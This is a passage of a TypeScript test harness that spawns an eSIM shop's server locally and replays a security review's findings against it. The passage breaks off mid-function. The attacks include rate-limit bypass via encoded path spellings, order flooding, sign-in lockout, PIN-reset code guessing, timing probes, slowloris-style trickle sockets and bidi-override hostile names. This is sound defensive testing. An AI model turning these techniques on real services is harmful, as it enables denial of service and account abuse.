/**
 * The attack and fault run (decisions 055 to 060), rerunnable: the whole product (`server.ts`, PROCESS_ROLE=all: web and worker
 * in one process, TypeScript through tsx) on an embedded PostgreSQL, the sandbox gateway, the eSIM simulator and an
 * SMTP stub that takes each message in --smtp-delay-ms (the issue's mail server took ~500 ms) and refuses the first try
 * of a few install emails (a failed send, finding 6). TRUST_PROXY is on, so every simulated client has its own address
 * (X-Forwarded-For). Each finding of the issue is attacked as the issue describes it, smaller where the original was
 * large (--scale multiplies those counts), and judged by what an attacker or a customer would see (statuses, whether
 * the action took effect), never by error codes, which the fixes change. Then the run's global figures: requests,
 * 5xx answers outside injected faults, authorization leaks (a second customer, no token, a garbage token, a customer's
 * token on the console, a support operator on admin-only pages: any answer but 401/403/404 is counted), and the money:
 * orders placed, paid, delivered, the simulator's upstream orders (lost: paid and not delivered after the wait;
 * doubled: more than one upstream order for an order).
 *
 * Two shortcuts, both said in the report: the 60 s wait between two codes for one email is skipped by moving that
 * email's codes 61 s back in the database (as if a minute had passed: findings 3, 7, 10), and finding 5 (a database
 * restart) is only run with --db-restart (PostgreSQL stopped --db-stop-seconds under light traffic, then started
 * again); the database-restart test of `npm test` is the finding's real check.
 *
 * Usage: `npx tsx bench/attack-run.ts [--scale=1] [--trickle-seconds=45] [--smtp-delay-ms=500] [--db-restart]
 * [--db-stop-seconds=20] [--log-file=product.log]`. About 2–3 minutes at --scale=1 (the issue's run was about
 * --scale=6). A measurement, not a test: exits 0 whatever it finds (1 only when the product cannot start).
 */
import { type ChildProcess, spawn } from "node:child_process";
import { randomBytes, randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import net from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { parseArgs } from "node:util";
import pg from "pg";
import semver from "semver";
import { SMTPServer } from "smtp-server";
import { loadConfig } from "../apps/api/src/config.ts";
import { connectDatabase } from "../apps/api/src/db/client.ts";
import { type EmbeddedServer, startEmbeddedPostgres } from "../apps/api/src/db/embedded.ts";
import { generateToken, sha256Hex } from "../apps/api/src/lib/secrets.ts";
import { insertOperator, insertOperatorSession } from "../apps/api/src/modules/operators/operators.repo.ts";
import { checkoutWebhookFor, webhookHeaders } from "../apps/api/src/providers/payment/sandbox/sandbox-test-kit.ts";
import { freePort } from "../apps/api/src/test/free-port.ts";

const REPO_ROOT = path.resolve(import.meta.dirname, "..");
const SERVER = path.join(REPO_ROOT, "apps/api/src/server.ts");
const API = "/api/v1/app";
const ADMIN = "/api/v1/admin";
/** config.ts's default signing key of the sandbox gateway (fine outside production). */
const SANDBOX_PAYMENT_SECRET = "local-sandbox-secret-key";
/** The general limiter's default (RATE_LIMIT_PER_MINUTE), left as shipped. */
const GENERAL_LIMIT_PER_MINUTE = 300;
const START_TIMEOUT_MS = 120_000;
const DELIVERY_WAIT_MS = 60_000;
const PIN = "1357";
const PHONE = "0551234567";

const { values: flags } = parseArgs({
  options: {
    scale: { type: "string", default: "1" },
    "trickle-seconds": { type: "string", default: "45" },
    "smtp-delay-ms": { type: "string", default: "500" },
    "db-restart": { type: "boolean", default: false },
    "db-stop-seconds": { type: "string", default: "20" },
    /** Where to write the product's own log output at the end (to read what finding 6 found). */
    "log-file": { type: "string" },
  },
});
const scale = Math.max(0.05, Number(flags.scale));
const scaled = (base: number) => Math.max(1, Math.round(base * scale));
/** The counts at --scale=1; the issue's run in brackets. */
const COUNTS = {
  /** Paid orders of ordinary buyers, the money figures (2 468). */
  paidOrders: scaled(20),
  /** POST /orders from one token (600). */
  ordersFromOneToken: scaled(100),
  /** Trickling request bodies (2 000). */
  trickles: scaled(200),
  /** Sign-in emails to distinct addresses (400), from this many client addresses (40). */
  floodEmails: scaled(100),
  floodAddresses: scaled(10),
};
const trickleSeconds = Number(flags["trickle-seconds"]);
const smtpDelayMs = Number(flags["smtp-delay-ms"]);
const dbStopSeconds = Number(flags["db-stop-seconds"]);

// ---------------------------------------------------------------------------------------------------------
// HTTP as the attackers and customers send it, every answer counted.

interface Answer {
  /** 0: no answer (a timeout or a reset). */
  status: number;
  body: unknown;
  text: string;
  headers: Headers;
  ms: number;
}

const tally = {
  requests: 0,
  fiveXx: 0,
  fiveXxDuringFault: 0,
  noAnswer: 0,
  noAnswerDuringFault: 0,
  samples: [] as string[],
};
/** While an injected fault lasts, 5xx answers are the fault's, counted apart. */
let isFaultActive = false;
let baseUrl = "";

let addressCount = 0;
/** A client address no one else in the run uses: limits count per address. */
function newAddress(): string {
  addressCount++;
  return `10.${(addressCount >> 16) & 255}.${(addressCount >> 8) & 255}.${addressCount & 255}`;
}

interface CallOptions {
  method?: string;
  address?: string;
  token?: string;
  json?: unknown;
  form?: string;
  rawBody?: string;
  headers?: Record<string, string>;
  timeoutMs?: number;
  origin?: string;
}

async function call(pathAndQuery: string, options: CallOptions = {}): Promise<Answer> {
  const headers: Record<string, string> = { "x-forwarded-for": options.address ?? newAddress(), ...options.headers };
  if (options.token) headers.authorization = `Bearer ${options.token}`;
  let body: string | undefined = options.rawBody;
  if (options.json !== undefined) {
    headers["content-type"] = "application/json";
    body = JSON.stringify(options.json);
  } else if (options.form !== undefined) {
    headers["content-type"] = "application/x-www-form-urlencoded";
    body = options.form;
  }
  const method = options.method ?? (body === undefined ? "GET" : "POST");
  const startedAt = performance.now();
  tally.requests++;
  try {
    const response = await fetch(`${options.origin ?? baseUrl}${pathAndQuery}`, {
      method,
      headers,
      body,
      redirect: "manual",
      signal: AbortSignal.timeout(options.timeoutMs ?? 20_000),
    });
    const text = await response.text();
    const ms = performance.now() - startedAt;
    if (response.status >= 500) {
      if (isFaultActive) tally.fiveXxDuringFault++;
      else {
        tally.fiveXx++;
        if (tally.samples.length < 8) tally.samples.push(`${method} ${pathAndQuery} → ${response.status}`);
      }
    }
    let parsed: unknown;
    try {
      parsed = text ? JSON.parse(text) : undefined;
    } catch {
      parsed = undefined;
    }
    return { status: response.status, body: parsed, text, headers: response.headers, ms };
  } catch {
    if (isFaultActive) tally.noAnswerDuringFault++;
    else tally.noAnswer++;
    return { status: 0, body: undefined, text: "", headers: new Headers(), ms: performance.now() - startedAt };
  }
}

/** A nested field of a JSON answer, or undefined. */
function dig(value: unknown, ...keys: (string | number)[]): unknown {
  let current = value;
  for (const key of keys) {
    if (current === null || typeof current !== "object") return undefined;
    current = (current as Record<string | number, unknown>)[key];
  }
  return current;
}

const isOk = (answer: Answer) => answer.status >= 200 && answer.status < 300;

/** "3×200, 1×429": the statuses of answers, most frequent first. */
function statusCounts(answers: Answer[]): string {
  const counts = new Map<number, number>();
  for (const answer of answers) counts.set(answer.status, (counts.get(answer.status) ?? 0) + 1);
  return [...counts]
    .sort((left, right) => right[1] - left[1])
    .map(([status, count]) => `${count}×${status === 0 ? "no answer" : status}`)
    .join(", ");
}

/** Runs `task(0…count-1)` with at most `concurrency` at once; the results in order. */
async function inPool<T>(count: number, concurrency: number, task: (index: number) => Promise<T>): Promise<T[]> {
  const results: T[] = new Array(count);
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(concurrency, count) }, async () => {
      while (next < count) {
        const index = next++;
        results[index] = await task(index);
      }
    }),
  );
  return results;
}

function median(values: number[]): number {
  const sorted = [...values].sort((left, right) => left - right);
  return sorted[Math.floor(sorted.length / 2)] ?? Number.NaN;
}

// ---------------------------------------------------------------------------------------------------------
// The SMTP stub: what the shop mailed, decoded.

interface CapturedMail {
  to: string[];
  text: string;
  atMs: number;
  isRefused: boolean;
}

function decodeQuotedPrintable(body: string): string {
  const bytes = body
    .replace(/=\r?\n/g, "")
    .replace(/=([0-9A-F]{2})/gi, (_match, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
  return Buffer.from(bytes, "latin1").toString("utf8");
}

/** The readable text of a MIME message: every text part decoded (quoted-printable or base64), images left out. */
function decodeMail(raw: string): string {
  const pieces: string[] = [];
  for (const part of raw.split(/\r?\n--[^\r\n]+/)) {
    const split = part.search(/\r?\n\r?\n/);
    if (split < 0) continue;
    const head = part.slice(0, split);
    const body = part.slice(split).trim();
    if (/content-type:\s*(image|application)\//i.test(head)) continue;
    if (/content-transfer-encoding:\s*base64/i.test(head)) {
      pieces.push(Buffer.from(body.replace(/\s/g, ""), "base64").toString("utf8"));
    } else if (/content-transfer-encoding:\s*quoted-printable/i.test(head)) pieces.push(decodeQuotedPrintable(body));
    else pieces.push(body);
  }
  return pieces.join("\n");
}

async function startSmtpStub(options: { delayMs: number; refuseFirstInstallEmails: number }) {
  const mails: CapturedMail[] = [];
  const refusedOnce = new Set<string>();
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ["STARTTLS"],
    logger: false,
    size: 10 * 1024 * 1024,
    onData(stream, session, callback) {
      const chunks: Buffer[] = [];
      stream.on("data", (chunk: Buffer) => chunks.push(chunk));
      stream.on("end", () => {
        const raw = Buffer.concat(chunks).toString("utf8");
        const messageId = /^message-id:\s*(\S+)/im.exec(raw)?.[1] ?? randomUUID();
        const text = decodeMail(raw);
        const isRefused =
          text.includes("LPA:1$") && refusedOnce.size < options.refuseFirstInstallEmails && !refusedOnce.has(messageId);
        if (isRefused) refusedOnce.add(messageId);
        mails.push({
          to: session.envelope.rcptTo.map((recipient) => recipient.address.toLowerCase()),
          text,
          atMs: Date.now(),
          isRefused,
        });
        setTimeout(() => {
          if (isRefused) callback(Object.assign(new Error("Mailbox busy, try again later"), { responseCode: 451 }));
          else callback();
        }, options.delayMs);
      });
    },
  });
  server.on("error", () => {});
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.server.address();
  if (!address || typeof address === "string") throw new Error("no SMTP port");
  return {
    port: address.port,
    mails,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

type SmtpStub = Awaited<ReturnType<typeof startSmtpStub>>;
let smtp: SmtpStub;

/** The newest 6-digit code mailed to `email` after `afterMs`, waited for up to 15 s. */
async function waitForCode(email: string, afterMs: number): Promise<string | undefined> {
  const deadline = Date.now() + 15_000;
  while (Date.now() < deadline) {
    const mail = smtp.mails.findLast(
      (candidate) => !candidate.isRefused && candidate.atMs >= afterMs && candidate.to.includes(email),
    );
    const code = mail && /(?<!\d)(\d{6})(?!\d)/.exec(mail.text)?.[1];
    if (code) return code;
    await sleep(50);
  }
  return undefined;
}

// ---------------------------------------------------------------------------------------------------------
// Customers, operators, orders.

interface Customer {
  email: string;
  address: string;
  token: string;
}

function newEmail(label: string): string {
  return `${label}-${randomUUID().slice(0, 8)}@shoppers.example`;
}

/** Registers, reads the emailed code, verifies: a signed-in customer with an address of their own. */
async function signUp(label: string): Promise<Customer> {
  const email = newEmail(label);
  const address = newAddress();
  const startedAt = Date.now() - 1;
  const registered = await call(`${API}/auth/register`, {
    address,
    json: { name: "Amina Benali", email, country: "DZ", phone: PHONE, language: "fr" },
  });
  if (!isOk(registered)) throw new Error(`register ${label}: ${registered.status} ${registered.text.slice(0, 200)}`);
  const code = await waitForCode(email, startedAt);
  if (!code) throw new Error(`no code mailed to ${label}`);
  const verified = await call(`${API}/auth/verify`, { address, json: { email, code } });
  const token = dig(verified.body, "data", "token");
  if (typeof token !== "string") throw new Error(`verify ${label}: ${verified.status} ${verified.text.slice(0, 200)}`);
  return { email, address, token };
}

let planId = "";

function orderBody(customer: Customer, options: { name?: string; couponCode?: string } = {}) {
  return {
    clientReference: randomUUID(),
    packageId: planId,
    quantity: 1,
    currency: "DZD",
    billing: { email: customer.email, name: options.name ?? "Amina Benali", country: "DZ", phone: PHONE },
    paymentMethod: "cib",
    termsAccepted: true,
    ...(options.couponCode ? { couponCode: options.couponCode } : {}),
  };
}

interface PlacedOrder {
  answer: Answer;
  orderId?: string;
  checkoutUrl?: string;
}

async function placeOrder(
  customer: Customer,
  options: { name?: string; couponCode?: string; address?: string } = {},
): Promise<PlacedOrder> {
  const answer = await call(`${API}/orders`, {
    address: options.address ?? customer.address,
    token: customer.token,
    json: orderBody(customer, options),
  });
  const orderId = dig(answer.body, "data", "order", "id");
  const checkoutUrl = dig(answer.body, "data", "payment", "checkoutUrl");
  return {
    answer,
    orderId: typeof orderId === "string" ? orderId : undefined,
    checkoutUrl: typeof checkoutUrl === "string" ? checkoutUrl : undefined,
  };
}

/** The payer presses "pay" on the sandbox's hosted page, which then posts its signed webhook to the shop. */
async function payThroughPage(order: PlacedOrder, address: string): Promise<boolean> {
  if (!order.checkoutUrl) return false;
  const answer = await call(`${new URL(order.checkoutUrl).pathname}/pay`, { address, form: "method=cib" });
  return answer.status === 303 || isOk(answer);
}

let database: pg.Pool;

/** The gateway delivers the `checkout.paid` webhook once more (its retry), as Chargily may. */
async function replayPaidWebhook(orderId: string): Promise<void> {
  const { rows } = await database.query(
    `select id, provider_reference as "providerReference", amount_minor as "amountMinor", method,
            checkout_url as "checkoutUrl", fee_allocation as "feeAllocation", customer_fee_minor as "customerFeeMinor"
       from payments where order_id = $1`,
    [orderId],
  );
  if (!rows[0]?.providerReference) return;
  const rawBody = checkoutWebhookFor(rows[0], { at: new Date() });
  await call(`${API}/webhooks/payments/sandbox`, {
    rawBody,
    headers: webhookHeaders(rawBody, SANDBOX_PAYMENT_SECRET),
  });
}

async function orderStatus(orderId: string): Promise<string | undefined> {
  const { rows } = await database.query<{ status: string }>("select status from orders where id = $1", [orderId]);
  return rows[0]?.status;
}

async function waitForStatus(orderId: string, status: string, timeoutMs: number): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if ((await orderStatus(orderId).catch(() => undefined)) === status) return true;
    await sleep(250);
  }
  return false;
}

/** Moves the email's codes 61 s back: the 60 s resend wait is over, as if a minute had passed. */
async function ageCodes(email: string): Promise<void> {
  try {
    await database.query("update sign_in_codes set created_at = created_at - interval '61 seconds' where email = $1", [
      email,
    ]);
  } catch (error) {
    // Without it the resend wait refuses the next request, which would read as a fix: the report says so.
    const note = `\nCODES NOT AGED (${String(error).slice(0, 100)}): findings 3, 7 and 10 then meet the 60 s resend wait.`;
    if (!notes.includes(note)) notes.push(note);
  }
}

interface Operator {
  email: string;
  token: string;
}

let operatorDb: ReturnType<typeof connectDatabase>;

/** An operator straight in the database (as `npm run console` would add one), with a live session when asked. */
async function addOperator(role: "admin" | "support"): Promise<Operator> {
  const now = new Date();
  const email = `${role}-${randomUUID().slice(0, 8)}@operators.example`;
  const operator = await insertOperator(operatorDb.db, { email, role, now });
  if (!operator) throw new Error("operator not created");
  const token = generateToken();
  await insertOperatorSession(operatorDb.db, {
    operatorId: operator.id,
    tokenHash: sha256Hex(token),
    expiresAt: new Date(now.getTime() + 12 * 3_600_000),
    createdIp: null,
    userAgent: "attack-run",
    now,
  });
  return { email, token };
}

// ---------------------------------------------------------------------------------------------------------
// Slow bodies (finding 9): sockets that send their headers, then a byte every two seconds.

function startTrickles(count: number, port: number) {
  const sockets: { socket: net.Socket; isAnswered: boolean; isClosed: boolean }[] = [];
  let address = newAddress();
  for (let index = 0; index < count; index++) {
    if (index % 50 === 49) address = newAddress();
    const socket = net.connect(port, "127.0.0.1");
    const entry = { socket, isAnswered: false, isClosed: false };
    sockets.push(entry);
    socket.on("connect", () => {
      socket.write(
        `POST ${API}/auth/code HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\n` +
          `Content-Length: 10000\r\nX-Forwarded-For: ${address}\r\n\r\n{`,
      );
    });
    socket.on("data", () => {
      entry.isAnswered = true;
    });
    socket.on("close", () => {
      entry.isClosed = true;
    });
    socket.on("error", () => {});
  }
  const timer = setInterval(() => {
    for (const entry of sockets) if (!entry.isClosed && !entry.isAnswered) entry.socket.write(" ");
  }, 2_000);
  return {
    stillOpen: () => sockets.filter((entry) => !entry.isClosed && !entry.isAnswered).length,
    cut: () => sockets.filter((entry) => entry.isClosed || entry.isAnswered).length,
    close() {
      clearInterval(timer);
      for (const entry of sockets) entry.socket.destroy();
    },
  };
}

// ---------------------------------------------------------------------------------------------------------
// The product as a process.

interface Product {
  child: ChildProcess;
  log: () => string;
  isRunning: () => boolean;
  stop: () => Promise<void>;
}

function spawnProduct(env: Record<string, string>, name: string): Product {
  const child = spawn(process.execPath, ["--import", "tsx", SERVER], {
    cwd: REPO_ROOT,
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: process.env.HOME ?? tmpdir(), ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const chunks: string[] = [];
  child.stdout?.on("data", (chunk: Buffer) => chunks.push(chunk.toString()));
  child.stderr?.on("data", (chunk: Buffer) => chunks.push(chunk.toString()));
  const exited = new Promise<void>((resolve) => child.once("exit", () => resolve()));
  const isRunning = () => child.exitCode === null && child.signalCode === null;
  child.once("exit", (code, signal) => {
    if (!isStopping.has(child)) console.warn(`${name} exited by itself (${signal ?? code})`);
  });
  return {
    child,
    log: () => chunks.join(""),
    isRunning,
    async stop() {
      isStopping.add(child);
      if (isRunning()) child.kill("SIGTERM");
      const killer = setTimeout(() => child.kill("SIGKILL"), 12_000);
      await exited;
      clearTimeout(killer);
    },
  };
}
const isStopping = new Set<ChildProcess>();

async function waitUntilAnswering(product: Product, origin: string): Promise<boolean> {
  const deadline = Date.now() + START_TIMEOUT_MS;
  while (Date.now() < deadline && product.isRunning()) {
    try {
      if ((await fetch(`${origin}/livez`, { signal: AbortSignal.timeout(2_000) })).ok) return true;
    } catch {
      // not yet listening
    }
    await sleep(200);
  }
  return false;
}

// ---------------------------------------------------------------------------------------------------------
// The findings. Each answers one line of the report; a failure to measure says so instead.

const report = new Map<string, string>();
const notes = [
  "\nFindings 3, 7, 10 and the ended session of the probes move an email's codes 61 s back in the database between two",
  "requests (the 60 s resend wait skipped, as if a minute had passed); every other figure is as the product answered.",
];

async function measure(finding: string, run: () => Promise<string>): Promise<void> {
  const startedAt = Date.now();
  try {
    report.set(finding, await run());
  } catch (error) {
    report.set(finding, `not measured: ${error instanceof Error ? error.message : String(error)}`.slice(0, 300));
  }
  console.info(`  ${finding} (${((Date.now() - startedAt) / 1000).toFixed(1)} s): ${report.get(finding)}`);
}

/** Finding 1: the general limit by spelling of the path, N requests from one address per spelling. */
async function rateLimitSpellings(): Promise<string> {
  const count = GENERAL_LIMIT_PER_MINUTE + 50;
  const spellings: [string, (apiPath: string) => string][] = [
    ["/api/…", (apiPath) => apiPath],
    ["/%61pi/…", (apiPath) => apiPath.replace(/^\/api\//, "/%61pi/")],
    ["//api/…", (apiPath) => `/${apiPath}`],
    ["/API/…", (apiPath) => apiPath.replace(/^\/api\//, "/API/")],
  ];
  const targets: [string, string, CallOptions][] = [
    ["GET catalog/summary", `${API}/catalog/summary`, {}],
    ["POST orders (no token)", `${API}/orders`, { json: {} }],
  ];
  const parts: string[] = [];
  for (const [label, target, options] of targets) {
    const perSpelling: string[] = [];
    for (const [spelling, spell] of spellings) {
      const address = newAddress();
      // A spelling the router does not take (404) is no way round the limit: 20 answers say so.
      const probe = await inPool(20, 8, () => call(spell(target), { ...options, address }));
      const isRouted = probe.some((answer) => answer.status !== 404);
      const answers = isRouted
        ? [...probe, ...(await inPool(count - 20, 8, () => call(spell(target), { ...options, address })))]
        : probe;
      const firstRefusal = answers.findIndex((answer) => answer.status === 429);
      const routed = answers.filter((answer) => answer.status !== 404 && answer.status !== 429).length;
      perSpelling.push(
        `${spelling} ${statusCounts(answers)}${firstRefusal >= 0 ? "" : routed > GENERAL_LIMIT_PER_MINUTE ? " (NOT LIMITED)" : ""}`,
      );
    }
    parts.push(`${count} ${label} per spelling, one address each: ${perSpelling.join("; ")}`);
  }
  return parts.join(" | ");
}

/** Finding 2: M orders from one token (a new address each), and a 5-use coupon held by unpaid orders. */
async function unpaidOrders(attacker: Customer, holder: Customer, other: Customer, admin: Operator): Promise<string> {
  const checkoutsBefore = await countRows("sandbox_checkouts");
  const startedAt = Date.now();
  const answers = await inPool(
    COUNTS.ordersFromOneToken,
    10,
    async () => (await placeOrder(attacker, { address: newAddress() })).answer,
  );
  const seconds = (Date.now() - startedAt) / 1000;
  const checkouts = (await countRows("sandbox_checkouts")) - checkoutsBefore;
  const accepted = answers.filter(isOk).length;

  const code = `LOCK5-${randomUUID().slice(0, 6).toUpperCase()}`;
  const created = await call(`${ADMIN}/coupons`, {
    token: admin.token,
    json: { code, discount: { kind: "percent", percentOff: 10 }, maxUses: 5, maxUsesPerUser: 5 },
  });
  let couponPart = `coupon not created (${created.status})`;
  if (isOk(created)) {
    const held = [];
    for (let index = 0; index < 5; index++) held.push((await placeOrder(holder, { couponCode: code })).answer);
    const check = await call(`${API}/coupons/check`, {
      address: other.address,
      token: other.token,
      json: { packageId: planId, quantity: 1, currency: "DZD", code },
    });
    couponPart =
      `a 5-use coupon: ${held.filter(isOk).length} of 5 unpaid orders with it accepted from one account, ` +
      `then another customer's check ${isOk(check) ? "ACCEPTED (still usable)" : `refused ${check.status} (LOCKED for everyone else)`}`;
  }
  return (
    `${COUNTS.ordersFromOneToken} POST /orders from one token in ${seconds.toFixed(1)} s: ${accepted} orders accepted ` +
    `(${statusCounts(answers)}), ${checkouts} gateway checkouts opened; ${couponPart}`
  );
}

async function countRows(table: string): Promise<number> {
  const { rows } = await database.query<{ count: number }>(`select count(*)::int as count from ${table}`);
  return rows[0]?.count ?? 0;
}

/**
 * Finding 3: the victim asks for a code, an attacker asks 9 more for the victim's email from 9 addresses (a minute
 * apart, simulated), then: does the victim's code still work, and is the victim's next request refused?
 */
async function lockOut(options: {
  label: string;
  email: string;
  requestPath: string;
  verifyPath: string;
}): Promise<string> {
  const { email } = options;
  const victimAddress = newAddress();
  const startedAt = Date.now() - 1;
  const first = await call(options.requestPath, { address: victimAddress, json: { email } });
  if (!isOk(first)) return `${options.label}: the victim's own first request refused (${first.status})`;
  const code = await waitForCode(email, startedAt);
  if (!code) return `${options.label}: no code reached the victim`;
  const attacks: Answer[] = [];
  for (let index = 0; index < 9; index++) {
    await ageCodes(email);
    attacks.push(await call(options.requestPath, { address: newAddress(), json: { email } }));
  }
  const verified = await call(options.verifyPath, { address: victimAddress, json: { email, code } });
  await ageCodes(email);
  const next = await call(options.requestPath, { address: victimAddress, json: { email } });
  const retryAfter = next.headers.get("retry-after");
  return (
    `${options.label}: attacker's 9 requests from 9 addresses ${statusCounts(attacks)}; the victim's code then ` +
    `${isOk(verified) ? "STILL VALID" : `REFUSED (${verified.status} ${String(dig(verified.body, "error", "code") ?? "")})`}; ` +
    `the victim's next request ${next.status === 429 ? `REFUSED 429 (Retry-After ${retryAfter ?? "?"} s)` : `answered ${next.status}`}`
  );
}

/**
 * Finding 7: a thief with the session asks PIN-reset codes (a minute apart, simulated) and guesses each until it is
 * burnt, from one address, until refused or ~180 requests (30 codes: under the general per-minute limit).
 */
async function pinResetGuesses(thief: Customer): Promise<string> {
  const address = newAddress();
  let guesses = 0;
  let codes = 0;
  let requests = 0;
  let stoppedBy = "not refused";
  const startedAt = Date.now();
  cycles: while (requests < 180) {
    await ageCodes(thief.email);
    const asked = await call(`${API}/profile/pin/reset/code`, { address, token: thief.token, method: "POST" });
    requests++;
    if (!isOk(asked)) {
      stoppedBy = `code request ${codes + 1} refused (${asked.status}${asked.status === 429 ? `, Retry-After ${asked.headers.get("retry-after") ?? "?"} s` : ""})`;
      break;
    }
    codes++;
    let firstAnswerCode: unknown;
    for (let attempt = 0; attempt < 10; attempt++) {
      const guess = String(Math.floor(Math.random() * 1_000_000)).padStart(6, "0");
      const answer = await call(`${API}/profile/pin/reset`, {
        address,
        token: thief.token,
        json: { code: guess, pin: "2468" },
      });
      requests++;
      if (answer.status === 429) {
        stoppedBy = `guess refused with 429 after ${guesses} guesses (Retry-After ${answer.headers.get("retry-after") ?? "?"} s)`;
        break cycles;
      }
      if (isOk(answer)) {
        guesses++;
        stoppedBy = "a guess was RIGHT";
        break cycles;
      }
      const errorCode = dig(answer.body, "error", "code");
      firstAnswerCode ??= errorCode;
      // The code is checked (a guess) until the answer changes: the try that burns it is the last one counted.
      guesses++;
      if (errorCode !== firstAnswerCode) break;
    }
  }
  const seconds = (Date.now() - startedAt) / 1000;
  return (
    `${guesses} guesses at ${codes} PIN-reset codes from one address and one session in ${seconds.toFixed(0)} s ` +
    `(${codes} simulated minutes), ${stoppedBy}; ≈${Math.round((guesses / Math.max(1, codes)) * 60)} guesses an hour at one code a minute unless refused`
  );
}

/** Finding 8: how long POST /admin/auth/code takes for an operator's email and for anyone else's. */
async function operatorTiming(operators: Operator[]): Promise<string> {
  const operatorMs: number[] = [];
  const strangerMs: number[] = [];
  const statuses: Answer[] = [];
  for (const operator of operators) {
    const forOperator = await call(`${ADMIN}/auth/code`, { json: { email: operator.email } });
    const forStranger = await call(`${ADMIN}/auth/code`, { json: { email: newEmail("stranger") } });
    statuses.push(forOperator, forStranger);
    operatorMs.push(forOperator.ms);
    strangerMs.push(forStranger.ms);
  }
  const operatorMedian = median(operatorMs);
  const strangerMedian = median(strangerMs);
  return (
    `POST /admin/auth/code median ${operatorMedian.toFixed(0)} ms for an operator's email, ${strangerMedian.toFixed(0)} ms ` +
    `for a stranger's (${operators.length} each, SMTP taking ${smtpDelayMs} ms; ${statusCounts(statuses)}): ` +
    `${Math.abs(operatorMedian - strangerMedian) > smtpDelayMs / 2 ? "TELLS operators apart" : "no difference worth a guess"}`
  );
}

/** Finding 10: an attacker registers a stranger's email with their own details; the stranger then signs in by code. */
async function registerPrefill(): Promise<string> {
  const email = newEmail("prefill-victim");
  const registered = await call(`${API}/auth/register`, {
    json: { name: "Mallory Attacker", email, country: "FR", phone: "+33612345678", language: "en" },
  });
  await ageCodes(email);
  const address = newAddress();
  const startedAt = Date.now() - 1;
  const asked = await call(`${API}/auth/code`, { address, json: { email } });
  const code = await waitForCode(email, startedAt);
  if (!code) return `register ${registered.status}; the victim's own code request ${asked.status}, no code`;
  const verified = await call(`${API}/auth/verify`, { address, json: { email, code } });
  const token = dig(verified.body, "data", "token");
  if (typeof token !== "string") return `register ${registered.status}; victim's verify ${verified.status}`;
  const me = await call(`${API}/auth/me`, { address, token });
  const name = dig(me.body, "data", "name");
  const phone = dig(me.body, "data", "phone");
  const country = dig(me.body, "data", "country");
  const isPrefilled = name === "Mallory Attacker" || phone === "+33612345678";
  return (
    `attacker's register ${registered.status}; after the victim signs in with their own code /auth/me shows ` +
    `name ${JSON.stringify(name)}, phone ${JSON.stringify(phone)}, country ${JSON.stringify(country)}: ` +
    `${isPrefilled ? "PRE-FILLED by the attacker" : "not the attacker's"}`
  );
}

/** A value as JSON, with bidi and zero-width characters written as escapes (they would scramble the report). */
function shown(value: unknown): string {
  return String(JSON.stringify(value)).replace(
    /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/g,
    (char) => `\\u${char.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}`,
  );
}

const HOSTILE_NAMES: [string, string][] = [
  ["bidi override", "Bob\u202Egnp.exe"],
  ["zero-width", "Zero\u200Bwidth"],
  ["line break", "Line\nbreak"],
];

/** Finding 12: names with a bidi override, a zero-width character, a line break, where names enter. */
async function hostileNames(customer: Customer): Promise<string> {
  const parts: string[] = [];
  let accepted = 0;
  for (const [label, name] of HOSTILE_NAMES) {
    const register = await call(`${API}/auth/register`, {
      json: { name, email: newEmail("names"), country: "DZ", language: "fr" },
    });
    const profile = await call(`${API}/profile`, {
      method: "PATCH",
      address: customer.address,
      token: customer.token,
      json: { name, country: "DZ" },
    });
    const order = await placeOrder(customer, { name });
    if (order.orderId) {
      await call(`${API}/orders/${order.orderId}/cancel`, {
        method: "POST",
        address: customer.address,
        token: customer.token,
      });
    }
    const answers = [register, profile, order.answer];
    accepted += answers.filter(isOk).length;
    parts.push(
      `${label}: register ${register.status}, profile ${profile.status}, billing ${order.answer.status}${isOk(profile) ? ` (kept as ${shown(dig(profile.body, "data", "name"))})` : ""}`,
    );
  }
  return `${accepted} of ${HOSTILE_NAMES.length * 3} accepted: ${parts.join("; ")}`;
}

/** Finding 13: a once-per-customer coupon used, the account deleted, the same email registered again. */
async function couponAfterDeletion(
  customer: Customer,
  admin: Operator,
): Promise<{ line: string; deletedOrder?: string }> {
  const code = `ONCE-${randomUUID().slice(0, 6).toUpperCase()}`;
  const created = await call(`${ADMIN}/coupons`, {
    token: admin.token,
    json: { code, discount: { kind: "percent", percentOff: 10 }, maxUses: null, maxUsesPerUser: 1 },
  });
  if (!isOk(created)) return { line: `coupon not created (${created.status})` };
  const first = await placeOrder(customer, { couponCode: code });
  if (!first.orderId) return { line: `first order with the coupon refused (${first.answer.status})` };
  await payThroughPage(first, customer.address);
  // Its install email is sent before the account goes: finding 6 then looks for it after the deletion.
  const isDelivered = await waitForStatus(first.orderId, "delivered", 30_000);
  const deleted = await call(`${API}/profile`, {
    method: "DELETE",
    address: customer.address,
    token: customer.token,
    json: { confirmation: "DELETE" },
  });
  const startedAt = Date.now() - 1;
  const address = newAddress();
  await call(`${API}/auth/register`, {
    address,
    json: { name: "Amina Benali", email: customer.email, country: "DZ", phone: PHONE, language: "fr" },
  });
  const signInCode = await waitForCode(customer.email, startedAt);
  const verified = signInCode
    ? await call(`${API}/auth/verify`, { address, json: { email: customer.email, code: signInCode } })
    : undefined;
  const token = dig(verified?.body, "data", "token");
  if (typeof token !== "string") return { line: `deleted ${deleted.status}; could not sign in again` };
  const again: Customer = { email: customer.email, address, token };
  const check = await call(`${API}/coupons/check`, {
    address,
    token,
    json: { packageId: planId, quantity: 1, currency: "DZD", code },
  });
  const second = await placeOrder(again, { couponCode: code });
  if (second.orderId) await call(`${API}/orders/${second.orderId}/cancel`, { method: "POST", address, token });
  return {
    line:
      `first order with the coupon paid${isDelivered ? " and delivered" : ""}; account deleted (${deleted.status}); ` +
